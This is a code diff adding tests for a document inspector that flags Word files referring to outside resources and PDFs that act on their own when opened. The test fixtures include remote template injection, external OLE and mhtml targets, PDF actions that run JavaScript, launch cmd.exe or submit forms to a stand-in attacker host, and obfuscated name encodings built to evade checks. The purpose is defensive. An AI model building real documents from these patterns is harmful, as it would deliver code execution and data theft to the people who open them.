@@ -1,9 +1,11 @@
 import { readdirSync, readFileSync } from 'node:fs';
 import path from 'node:path';
+import { deflateSync } from 'node:zlib';
 import { strToU8, zipSync } from 'fflate';
 import { describe, expect, test } from 'vitest';
 import { inspectDocument } from './inspect-document.ts';
 import { docxLimits } from './inspect-docx.ts';
+import { makePdf } from './testing/make-pdf.ts';
 import { mainPart, mainType, makeDocx, patch, relationTo, swap } from './testing/make-docx.ts';
 
 const docx = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
@@ -154,6 +156,87 @@ describe('a Word document', () => {
       Object.fromEntries(Array.from({ length: count }, (_, at) => [`word/media/${at}`, new Uint8Array([1])]));
     expect(await inspectDocument(makeDocx(many(docxLimits.entries - 3)))).toBe(docx);
     expect(await inspectDocument(makeDocx(many(docxLimits.entries - 2)))).toBe('unsafe');
+  });
+});
+
+describe('what a Word document refers to', () => {
+  const relations = (name: string, attributes: string) =>
+    makeDocx({ [name]: strToU8(`<Relationships><Relationship Id="r1" ${attributes}/></Relationships>`) });
+  const typed = (type: string) => `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}"`;
+
+  test.each([
+    [
+      'word/_rels/settings.xml.rels',
+      `${typed('attachedTemplate')} Target="https://evil.example/t.dotm" TargetMode="External"`,
+    ],
+    ['word/_rels/settings.xml.rels', `${typed('attachedTemplate')} Target="file:///C:/t.dotm" TargetMode='External'`],
+    ['word/_rels/document.xml.rels', `${typed('image')} Target="https://evil.example/p.png" TargetMode="External"`],
+    ['word/_rels/document.xml.rels', `${typed('oleObject')} Target="https://evil.example/o" TargetMode="external"`],
+    ['word/_rels/document.xml.rels', `Target="mhtml:https://evil.example" TargetMode="&#69;xternal"`],
+    ['word/_rels/header1.xml.rels', `${typed('frame')} Target="\\\\evil\\x" TargetMode="External"`],
+  ])('is not outside of it: %s %s', async (name, attributes) => {
+    expect(await inspectDocument(relations(name, attributes))).toBe('active');
+  });
+
+  test('may be a link that a reader follows', async () => {
+    const link = `${typed('hyperlink')} Target="https://patio.example" TargetMode="External"`;
+    expect(await inspectDocument(relations('word/_rels/document.xml.rels', link))).toBe(docx);
+  });
+
+  test('may be a part of it', async () => {
+    expect(
+      await inspectDocument(relations('word/_rels/document.xml.rels', `${typed('image')} Target="media/a.png"`)),
+    ).toBe(docx);
+  });
+});
+
+describe('what a PDF does by itself', () => {
+  const catalogue = (entries: string, objects = '') =>
+    makePdf([
+      `<< /Type /Catalog /Pages 2 0 R ${entries} >>`,
+      '<< /Type /Pages /Kids [] /Count 0 >>',
+      ...objects.split('|'),
+    ]);
+
+  test.each([
+    ['/OpenAction << /S /JavaScript /JS (app.alert(1)) >>', ''],
+    ['/OpenAction << /S /URI /URI (https://evil.example) >>', ''],
+    ['/OpenAction 3 0 R', '<< /S /Launch /F (cmd.exe) >>'],
+    ['/OpenAction 3 0 R', '<< /S /GoTo /D [2 0 R /Fit] /Next << /S /URI /URI (https://evil.example) >> >>'],
+    ['/OpenAction 9 0 R', ''],
+    ['/OpenAction%\n3 0 R', '<< /S /URI /URI (https://evil.example) >>'],
+    ['/AA << /WC << /S /URI /URI (https://evil.example) >> >>', ''],
+    ['/AA 3 0 R', '<< /O << /S /Named /N /Print >> >>'],
+    ['/Names << /JavaScript << /Names [(a) 3 0 R] >> >>', '<< /S /JavaScript /JS (x) >>'],
+    ['', '<< /Type /Annot /A << /S /L#61unch /F (cmd.exe) >> >>'],
+    ['', '<< /S /SubmitForm /F (https://evil.example) >>'],
+    ['', '<< /S /ImportData /F (x) >>'],
+    ['/AcroForm << /XFA [(template) 3 0 R] >>', '<< /Length 0 >>'],
+  ])('is refused: %s %s', async (entries, objects) => {
+    expect(await inspectDocument(catalogue(entries, objects))).toBe('active');
+  });
+
+  test('is refused in a packed object too', async () => {
+    const packed = deflateSync(Buffer.from('5 0 << /S /JavaScript /JS (x) >>'));
+    const file = (dictionary: string, body = packed) =>
+      makePdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'], { dictionary, body });
+    expect(await inspectDocument(file('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'))).toBe('active');
+    expect(await inspectDocument(file('/Type /Obj#53tm /N 1 /First 4 /Filter [/FlateDecode]'))).toBe('active');
+    expect(await inspectDocument(file('/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode'))).toBe('active');
+    const harmless = deflateSync(Buffer.from('5 0 << /S /GoTo /D [2 0 R /Fit] >>'));
+    expect(await inspectDocument(file('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', harmless))).toBe(
+      'application/pdf',
+    );
+  });
+
+  test.each([
+    ['/OpenAction [2 0 R /Fit]', ''],
+    ['/OpenAction << /S /GoTo /D [2 0 R /Fit] >>', ''],
+    ['/OpenAction 3 0 R', '<< /S /GoTo /D [2 0 R /Fit] >>'],
+    ['', '<< /Type /Annot /A << /S /URI /URI (https://patio.example) >> >>'],
+    ['', '<< /Title (About JavaScript and /AA batteries) >>'],
+  ])('may be to turn to a page, or to follow a link that is clicked: %s %s', async (entries, objects) => {
+    expect(await inspectDocument(catalogue(entries, objects))).toBe('application/pdf');
   });
 });
 
